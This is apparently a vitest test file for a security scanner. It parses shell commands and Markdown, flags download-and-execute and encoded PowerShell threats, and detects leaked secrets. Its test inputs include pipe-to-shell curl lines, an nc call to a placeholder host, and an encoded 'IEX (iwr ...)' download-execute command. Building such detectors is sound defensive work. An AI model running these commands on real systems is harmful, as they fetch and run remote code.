import { describe, expect, it } from 'vitest';
import { parseMarkdown, warnsOf } from './markdown.ts';
import { NAMED_PROVIDERS, namedSecrets, namesProvider } from './named-secrets.ts';
import { ASSIGNED_SECRET, entropyOf, isOrdinaryText, isPlaceholder } from './secret-checks.ts';
import { SECRET_PATTERNS } from './secret-patterns.ts';
import { parseShell, programOf } from './shell.ts';
import { shellHosts } from './shell-hosts.ts';
import { shellThreats } from './shell-threats.ts';

describe('shell', () => {
  const words = (text: string) =>
    parseShell(text).map(({ commands }) => commands.map((command) => command.words.join(' ')).join(' | '));

  it.each([
    ['a \'b c\' "d e" f\\ g', ['a b c d e f g']],
    ['a | b |& c', ['a | b | c']],
    ['a && b || c; d & e\nf', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['a \\\n b', ['a b']],
    ['a # b | c', ['a']],
    ["don't\n\nit's", ["don't", "it's"]],
    ['"a', ['a']],
    ['', []],
  ])('%j', (text, expected) => {
    expect(words(text)).toEqual(expected);
  });

  it('substitutions are commands of their own, redirections are files', () => {
    const [only] = parseShell('a "$(b `c`)" <(d) > out 2>&1 >> more');
    expect(only?.commands[0]?.inner.map(({ commands }) => commands[0]?.words[0])).toEqual(['b', 'd']);
    expect(only?.commands[0]?.writes).toEqual(['out', '&1', 'more']);
  });

  it('the program stands behind sudo, assignments and prompts', () => {
    const program = (text: string) =>
      programOf(parseShell(text)[0]?.commands[0] ?? { words: [], inner: [], writes: [] });
    expect(program('sudo -E A=1 /usr/bin/Env.exe x')).toEqual({ name: 'env', args: ['x'] });
    expect(program('$ env A=b curl -s x').name).toBe('curl');
    expect(program('').name).toBe('');
  });

  it('hosts are found in pipes, substitutions and scripts within scripts', () => {
    const hosts = (text: string) => shellHosts(text).map(({ value }) => value);
    expect(hosts('curl -s https://a.example/x | sh; wget "http://b.example:81/$X"')).toEqual([
      'a.example:443',
      'b.example:81',
    ]);
    expect(hosts('x "$(curl https://a.example)"; bash -c \'curl https://b.example\'; nc c.example 99')).toEqual([
      'a.example:443',
      'b.example:443',
      'c.example:99',
    ]);
    expect(hosts('curl https://$HOST/x; curl "$URL"; echo https://d.example')).toEqual([null, null]);
  });

  it('an encoded command is judged by what it says', () => {
    const encode = (text: string) => btoa([...text].map((char) => `${char}\0`).join(''));
    const kinds = (text: string) =>
      shellThreats(`powershell -NoProfile -EncodedCommand ${encode(text)}`).map(({ kind }) => kind);
    expect(kinds('IEX (iwr https://x.example)')).toEqual(['download-execute']);
    expect(kinds('Get-ItemProperty -Path HKCU')).toEqual([]);
    expect(shellThreats(`powershell -enc ${'gICAgICAgICAgICA'.repeat(3)}`).map(({ kind }) => kind)).toEqual([
      'decode-execute',
    ]);
  });
});

describe('Markdown', () => {
  it('is cut into its parts, with headings and what stands in front', () => {
    const text = '# A\n\nOne `two` three.\n\n## B\n\n- item\n\n~~~~sh\n```\ncode\n```\n~~~~\n<!-- note\n``` -->\nend\n';
    expect(
      parseMarkdown(text).map(({ kind, text: part, headings }) => `${kind} ${headings.join('/')}: ${part.trim()}`),
    ).toEqual([
      'comment : note\n```',
      'prose A: # A',
      'prose A: One `two` three.',
      'inline A: two',
      'prose A/B: ## B',
      'prose A/B: - item',
      'fence A/B: ```\ncode\n```',
      'prose A/B: end',
    ]);
    for (const part of parseMarkdown(text))
      if (part.kind !== 'fence') expect(text.startsWith(part.text, part.offset)).toBe(true);
  });

  it('an open fence goes to the end, and Windows lines are lines', () => {
    expect(parseMarkdown('```sh\r\nls\r\n').map(({ kind, language }) => [kind, language])).toEqual([['fence', 'sh']]);
    expect(parseMarkdown('```sh\r\nls\r\n```\r\nend\r\n').map(({ kind }) => kind)).toEqual(['fence', 'prose']);
  });

  it.each([
    ['Never run this:', true],
    ['Do not pipe downloads into a shell', true],
    ['❌ Bad:', true],
    ['Avoid using commands like', true],
    ['Run this first:', false],
    ['Never mind. Run this:', false],
    ['You never need more than this', false],
  ])('%j warns: %s', (lead, expected) => {
    expect(warnsOf({ lead, headings: [] })).toBe(expected);
  });
});

describe('secrets', () => {
  it('every pattern ends in time on long texts of its own alphabet', () => {
    const texts = [
      'a'.repeat(200_000),
      'aws '.repeat(50_000),
      'A1-_.:/+='.repeat(20_000),
      `-----BEGIN PRIVATE KEY-----${'\\n'.repeat(50_000)}`,
      'token=token="'.repeat(15_000),
    ];
    for (const text of texts) {
      for (const { pattern } of SECRET_PATTERNS) expect([...text.matchAll(pattern)].length).toBeLessThan(100_000);
      expect([...text.matchAll(ASSIGNED_SECRET)].length).toBeLessThan(100_000);
    }
  });

  it('at least 150 providers are known, each once', () => {
    const providers = [...new Set(SECRET_PATTERNS.map(({ provider }) => provider)), ...NAMED_PROVIDERS];
    expect(new Set(SECRET_PATTERNS.map(({ provider }) => provider)).size).toBe(SECRET_PATTERNS.length);
    expect(providers.length).toBeGreaterThanOrEqual(150);
  });

  it.each([
    ['adafruit_TOKEN := "KEY"'],
    ['ADAFRUIT_TOKEN=KEY'],
    ['adafruit_token: KEY'],
    ["adafruit_token: 'KEY'"],
    ['<adafruitToken>\n    KEY\n</adafruitToken>'],
    ['var adafruitToken string = "KEY"'],
    ['$adafruitToken .= "KEY"'],
    ['"adafruitToken" => "KEY"'],
    ['System.setProperty("ADAFRUIT_TOKEN", "KEY")'],
    ['{"config.ini": "ADAFRUIT_TOKEN=KEY\\nBACKUP=true"}'],
  ])('the name in %s says whose key it is', (format) => {
    const key = 'x4su1_mbc61q6j46v9noe3iyui5ceak9';
    expect([...namedSecrets(format.replace('KEY', key))]).toMatchObject([{ provider: 'Adafruit', secret: key }]);
    expect([...namedSecrets(format.replace('KEY', 'plain-text'))]).toMatchObject([{ provider: null }]);
    expect([...namedSecrets(format.replaceAll(/adafruit/gi, 'thing').replace('KEY', key))]).toEqual([]);
  });

  it('a name inside another word is no name', () => {
    expect(['SetSysctl', 'rookTable', 'sumOfAll', 'CameraKit'].filter(namesProvider)).toEqual([]);
    expect(['etsyKey', 'OKTA_TOKEN', 'SumoKey', 'x_meraki'].filter(namesProvider).length).toBe(4);
  });

  it('random text, ordinary text and placeholders are told apart', () => {
    expect([entropyOf('aaaa'), Math.round(entropyOf('abcd'))]).toEqual([0, 2]);
    expect(['your-key', 'xxxxxxxx', 'aaaaaaaaaa', '<token>', '{{TOKEN}}'].map(isPlaceholder)).toEqual([
      true,
      true,
      true,
      true,
      true,
    ]);
    expect(
      ['two words', 'some/path/x.ts', 'SERVICE_TOKEN', 'camelCaseName', `0x${'a1'.repeat(20)}`].map(isOrdinaryText),
    ).toEqual([true, true, true, true, true]);
    expect(isOrdinaryText('q8Zt3vXw9LmT2pRn5YbVc8Jd')).toBe(false);
  });
});
